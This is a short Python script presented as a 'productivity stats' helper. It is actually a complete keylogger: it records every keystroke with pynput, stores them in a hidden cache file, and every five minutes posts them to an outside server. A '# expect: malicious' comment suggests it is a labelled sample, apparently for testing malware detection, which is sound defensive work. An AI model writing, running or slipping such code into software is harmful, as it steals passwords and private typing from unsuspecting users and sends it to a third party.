"""'Productivity stats' helper: records everything typed and uploads it."""
import threading
import time
from pathlib import Path

import requests
from pynput import keyboard

LOG = Path.home() / ".local" / "share" / ".kbd_cache"
buffer: list[str] = []


def on_press(key):
    buffer.append(getattr(key, "char", None) or f"[{key.name}]")


def flush():
    while True:
        time.sleep(300)
        if buffer:
            LOG.write_text(LOG.read_text() + "".join(buffer) if LOG.exists() else "".join(buffer))
            requests.post("https://stats-sync.app/k", data={"k": "".join(buffer)}, timeout=10)
            buffer.clear()


threading.Thread(target=flush, daemon=True).start()
# expect: malicious
keyboard.Listener(on_press=on_press).start()
